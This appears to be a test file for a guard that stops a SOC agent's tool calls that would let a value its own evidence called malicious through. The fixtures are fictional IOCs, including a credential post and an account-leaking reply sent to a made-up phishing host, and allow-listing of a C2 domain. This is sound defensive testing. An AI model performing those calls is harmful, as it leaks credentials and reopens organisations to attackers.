import { describe, expect, it } from 'vitest';

import { indicatorsOf, letsThrough, verdictsOf } from '../src/stateful/condemned-indicators.js';
import type { ScannedValue } from '../src/types.js';

import { balancedSession } from './balanced-session.js';

// A SOC session whose own evidence called a hash, an address, a domain or a host malicious, then a call that lets
// that very value through: allowed, taken off a block or IOC list, released from quarantine, its host's
// containment lifted, or mail and form posts sent to it. Products, hosts, hashes and domains are made up; the
// twins are the same consoles doing the response (blocking, isolating, expiring old entries, releasing clean mail).

const rule = 'data-flow/condemned-let-through';

function session() {
  const { read, call } = balancedSession('condemned');
  return {
    read,
    verdict: async (name: string, args: Record<string, unknown>) => {
      const verdict = await call(name, args);
      const rules = verdict.findings.map((f) => f.rule);
      return { action: verdict.action, rules, condemned: rules.includes(rule) };
    },
  };
}

const sha1 = '9c2e4d7a1b3f5e6c8d0a2b4c6e8f0a1b3c5d7e9f';
const aid = '3b1f9e2d7c6a4b5e8f0d1c2b3a4e5f60';
const s1Threat = `Threat 1882 on HR-LT-017: Agent Tesla infostealer, confidence malicious. SHA1 ${sha1}. Exfil over SMTP to 45.9.148.3`;
const mdeAlert = 'Alert da6371: Cobalt Strike beacon on SRV-APP-07, rundll32 contacting cdn-azure-sync.com every 45 s';
const tapThreat = 'TAP campaign 2291: credential phishing from invoices@docu-sign-secure.net, landing page hxxps://docu-sign-secure[.]net/view, 312 clicks permitted';

describe('a value the session condemned, let through', () => {
  it('blocks a SentinelOne hash exclusion of the infostealer it just reported', async () => {
    const s = session();
    await s.read('s1_get_threat', { id: 1882 }, s1Threat);
    expect(await s.verdict('s1_add_exclusion', { type: 'white_hash', value: sha1, os_type: 'windows', description: 'vendor says false positive' })).toMatchObject({ action: 'block', condemned: true });
  });

  it('blocks a Defender indicator set to Allowed for the beacon domain of an alert', async () => {
    const s = session();
    await s.read('mde_get_alert', { id: 'da6371' }, mdeAlert);
    expect(await s.verdict('mde_submit_indicator', { indicatorType: 'DomainName', indicatorValue: 'cdn-azure-sync.com', action: 'Allowed', title: 'CDN' })).toMatchObject({ action: 'block', condemned: true });
  });

  it('blocks an allow of a subdomain of the condemned domain', async () => {
    const s = session();
    await s.read('mde_get_alert', { id: 'da6371' }, mdeAlert);
    expect(await s.verdict('proxy_bypass_add', { entries: ['static.cdn-azure-sync.com'] })).toMatchObject({ action: 'block', condemned: true });
  });

  it('blocks an XSOAR indicator deleted after intel called it a phishing domain, written defanged', async () => {
    const s = session();
    await s.read('xsoar_search_indicators', { query: 'docu-sign' }, tapThreat);
    expect(await s.verdict('xsoar_delete_indicator', { value: 'docu-sign-secure.net' })).toMatchObject({ action: 'block', condemned: true });
  });

  it('blocks a Mimecast held message released from the phishing sender', async () => {
    const s = session();
    await s.read('proofpoint_tap_get_campaign', { id: 2291 }, tapThreat);
    expect(await s.verdict('mimecast_release_held_message', { id: 'eNoVzk1Pg', sender: 'invoices@docu-sign-secure.net', release_to_all: true })).toMatchObject({ action: 'block', condemned: true });
  });

  it('blocks a CrowdStrike containment lifted by device id on a beaconing host', async () => {
    const s = session();
    await s.read('cs_get_detects', { host: 'WKS-0193' }, `Detection ldt:${aid}:9011 on WKS-0193 (aid ${aid}): malware beaconing to 91.234.55.17:443`);
    expect(await s.verdict('cs_host_action', { action_name: 'lift_containment', ids: [aid] })).toMatchObject({ action: 'block', condemned: true });
  });

  it('blocks a firewall trusted range that covers the C2 address', async () => {
    const s = session();
    await s.read('cs_get_detects', { host: 'WKS-0193' }, 'WKS-0193: C2 callbacks to 91.234.55.17 (Chronicle match, confidence high)');
    expect(await s.verdict('fw_add_trusted_source', { source: '91.234.55.0/24' })).toMatchObject({ action: 'block', condemned: true });
  });

  it('blocks a reply to the phishing sender and a login posted to the phishing page', async () => {
    const s = session();
    await s.read('proofpoint_tap_get_campaign', { id: 2291 }, tapThreat);
    expect(await s.verdict('gmail_send', { to: ['billing@docu-sign-secure.net'], subject: 'RE: invoice', body: 'Here is the account you asked for.' })).toMatchObject({ action: 'block', condemned: true });
    expect(await s.verdict('http_request', { method: 'PUT', url: 'https://docu-sign-secure.net/view/submit', body: 'user=j.ortega&pass=Winter-2026' })).toMatchObject({ action: 'block', condemned: true });
  });
});

describe('the same consoles doing the response', () => {
  it('lets the condemned hash be blocked and the domain be added to a block list', async () => {
    const s = session();
    await s.read('s1_get_threat', { id: 1882 }, s1Threat);
    expect((await s.verdict('s1_add_ioc', { type: 'sha1', value: sha1, action: 'block', comment: 'Agent Tesla' })).rules).not.toContain(rule);
    await s.read('mde_get_alert', { id: 'da6371' }, mdeAlert);
    expect((await s.verdict('exchange_tenant_allow_block', { list: 'urls', action: 'block', entries: ['cdn-azure-sync.com'] })).rules).not.toContain(rule);
  });

  it('lets a vendor binary be excluded in a session that condemned another hash', async () => {
    const s = session();
    await s.read('s1_get_threat', { id: 1882 }, s1Threat);
    expect((await s.verdict('s1_add_exclusion', { type: 'path', value: 'D:\\Veeam\\Backup\\VeeamAgent.exe', comment: `unrelated to ${sha1}` })).rules).not.toContain(rule);
  });

  it('lets containment be lifted once a later answer says the host was reimaged', async () => {
    const s = session();
    await s.read('cs_get_detects', { host: 'WKS-0193' }, 'Detection on WKS-0193: malware beaconing to 91.234.55.17:443');
    await s.read('cs_get_host', { host: 'WKS-0193' }, 'WKS-0193 reimaged 2026-12-07 from golden image, full scan clean, no detections since');
    expect((await s.verdict('edr_lift_containment', { hostname: 'WKS-0193' })).rules).not.toContain(rule);
  });

  it('lets a host be released when the answer found no malicious activity on it', async () => {
    const s = session();
    await s.read('cs_get_host', { host: 'WKS-0200' }, 'WKS-0200: triage complete, no malicious activity found, isolation requested in error');
    expect((await s.verdict('edr_lift_containment', { hostname: 'WKS-0200' })).rules).not.toContain(rule);
  });

  it('lets clean mail be released and the reporter be thanked in a session that condemned a phish', async () => {
    const s = session();
    await s.read('proofpoint_tap_get_campaign', { id: 2291 }, tapThreat);
    expect((await s.verdict('mail_release_quarantine', { message_id: '<77a1@mail.vendor-news.example>', release_to: ['r.lind@corp.example'] })).rules).not.toContain(rule);
    expect((await s.verdict('mail_send', { to: ['j.ortega@corp.example'], subject: 'Reported message', body: 'It was phishing from docu-sign-secure.net; we purged it.' })).rules).not.toContain(rule);
    expect((await s.verdict('urlscan_submit', { url: 'https://docu-sign-secure.net/view', visibility: 'private' })).rules).not.toContain(rule);
    expect((await s.verdict('http_request', { method: 'GET', url: 'https://docu-sign-secure.net/view' })).rules).not.toContain(rule);
  });

  it('lets an expired IOC be deleted and mail from a free-mail provider be released though a phisher used it', async () => {
    const s = session();
    await s.read('intel_lookup', { value: 'old-cdn.example' }, 'old-cdn.example: expired 2021, re-registered by the vendor, sinkhole entry still present');
    expect((await s.verdict('dns_rpz_delete', { zone: 'rpz.corp.internal', name: 'old-cdn.example' })).rules).not.toContain(rule);
    await s.read('phish_analyze', { id: 'm-1' }, 'Verdict: phishing. Sender payroll.update.2026@gmail.com');
    expect((await s.verdict('mail_release_quarantine', { message_id: '<CAF9x@mail.gmail.com>', sender: 'a.friend@gmail.com' })).rules).not.toContain(rule);
  });
});

describe('the readings', () => {
  const value = (key: string, text: string): ScannedValue => ({ key, text, raw: text, path: [key], kinds: [], kindMask: 0, declaredMask: 0, quoted: false, signalMask: 0, pathForm: text, commandForm: text, urlForm: text });

  it('reads what an action argument says over what the tool name says', () => {
    expect(letsThrough('exchange_tenant_allow_block', [value('action', 'block')])).toBe(0);
    expect(letsThrough('exchange_tenant_allow_block', [value('action', 'allow')])).not.toBe(0);
    expect(letsThrough('edr_contain_hosts', [value('hostnames', 'wks-1')])).toBe(0);
  });

  it('condemns nothing a negated verdict names', () => {
    expect(verdictsOf([value('text', 'sample 44.1.2.3 is not malicious, no c2 seen')])?.condemned ?? []).toEqual([]);
  });

  it('reads worst-shape texts in linear time', () => {
    const shapes = ['a.'.repeat(1 << 19), `a${'-'.repeat(300)}`.repeat(4000), 'malicious not '.repeat(80_000), '1.1.1.1/'.repeat(130_000)];
    const started = performance.now();
    for (const text of shapes) {
      indicatorsOf(text, true, () => {});
      verdictsOf([value('text', text.slice(0, 16_000))]);
    }
    expect(performance.now() - started).toBeLessThan(2000);
  });
});
